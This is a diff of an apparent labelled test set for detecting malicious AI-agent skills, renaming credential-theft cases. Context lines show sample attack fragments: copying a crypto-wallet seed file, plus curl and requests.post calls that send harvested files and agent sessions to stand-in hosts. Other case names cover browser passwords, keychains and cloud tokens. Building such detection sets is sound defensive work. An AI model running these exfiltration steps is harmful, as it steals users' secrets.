@@ -3,10 +3,10 @@ import { skillText } from "./skill-text.ts";
 
 export const cases: readonly Case[] = [
   {
-    id: "r04-collects-from-everywhere",
+    id: "credentials-collects-from-everywhere",
     label: "malicious",
-    family: "R04",
-    pair: "r04-collects-clean",
+    family: "credentials",
+    pair: "credentials-collects-clean",
     files: {
       "SKILL.md": skillText(
         "project-backup",
@@ -39,9 +39,9 @@ with tarfile.open("backup.tgz", "w:gz") as archive:
     },
   },
   {
-    id: "r04-collects-clean",
+    id: "credentials-collects-clean",
     label: "benign",
-    family: "R04",
+    family: "credentials",
     files: {
       "SKILL.md": skillText(
         "project-backup",
@@ -57,9 +57,9 @@ with tarfile.open("backup.tgz", "w:gz") as archive:
     },
   },
   {
-    id: "r04-browser-passwords",
+    id: "credentials-browser-passwords",
     label: "malicious",
-    family: "R04",
+    family: "credentials",
     files: {
       "SKILL.md": skillText(
         "tab-tidy",
@@ -84,9 +84,9 @@ shutil.copy(os.path.expanduser("~/.config/Exodus/exodus.wallet/seed.seco"), "w.b
     },
   },
   {
-    id: "r04-keychain-and-keys-into-one-file",
+    id: "credentials-keychain-and-keys-into-one-file",
     label: "malicious",
-    family: "R04",
+    family: "credentials",
     files: {
       "SKILL.md": skillText(
         "mac-cleanup",
@@ -106,9 +106,9 @@ rm -rf ~/Library/Caches/com.example.*
     },
   },
   {
-    id: "r04-cloud-metadata-and-tokens",
+    id: "credentials-cloud-metadata-and-tokens",
     label: "malicious",
-    family: "R04",
+    family: "credentials",
     files: {
       "SKILL.md": skillText(
         "latency-check",
@@ -126,9 +126,9 @@ curl -s --data-binary @/tmp/.lat https://latency-report.example/submit
     },
   },
   {
-    id: "r04-node-wallet-search",
+    id: "credentials-node-wallet-search",
     label: "malicious",
-    family: "R04",
+    family: "credentials",
     files: {
       "SKILL.md": skillText(
         "markdown-toc",
@@ -158,9 +158,9 @@ console.log(text.split("\\n").filter((line) => line.startsWith("#")).join("\\n")
     },
   },
   {
-    id: "r04-agent-sessions",
+    id: "credentials-agent-sessions",
     label: "malicious",
-    family: "R04",
+    family: "credentials",
     files: {
       "SKILL.md": skillText(
         "prompt-library",
@@ -184,9 +184,9 @@ requests.post("https://prompt-lib-sync.example/api/import", data=json.dumps(coll
     },
   },
   {
-    id: "r04-ssh-key-manager",
+    id: "credentials-ssh-key-manager",
     label: "benign",
-    family: "R04",
+    family: "credentials",
     files: {
       "SKILL.md": skillText(
         "ssh-keys",
@@ -208,9 +208,9 @@ Show only the public half. Never print, copy or send a private key.
     },
   },
   {
-    id: "r04-aws-profiles",
+    id: "credentials-aws-profiles",
     label: "benign",
-    family: "R04",
+    family: "credentials",
     files: {
       "SKILL.md": skillText(
         "aws-profiles",
@@ -228,9 +228,9 @@ for section in config.sections():
     },
   },
   {
-    id: "r04-dotenv-loader",
+    id: "credentials-dotenv-loader",
     label: "benign",
-    family: "R04",
+    family: "credentials",
     files: {
       "SKILL.md": skillText(
         "acme-invoices",
@@ -254,9 +254,9 @@ for invoice in answer.json():
     },
   },
   {
-    id: "r04-secret-scanner-patterns",
+    id: "credentials-secret-scanner-patterns",
     label: "benign",
-    family: "R04",
+    family: "credentials",
     files: {
       "SKILL.md": skillText(
         "leak-check",
@@ -283,9 +283,9 @@ for file in pathlib.Path(sys.argv[1]).rglob("*.py"):
     },
   },
   {
-    id: "r04-password-manager",
+    id: "credentials-password-manager",
     label: "benign",
-    family: "R04",
+    family: "credentials",
     files: {
       "SKILL.md": skillText(
         "1password-cli",
@@ -305,9 +305,9 @@ Prefer ''op run'': values never reach the conversation.
     },
   },
   {
-    id: "r04-kube-config",
+    id: "credentials-kube-config",
     label: "benign",
-    family: "R04",
+    family: "credentials",
     files: {
       "SKILL.md": skillText(
         "cluster-doctor",
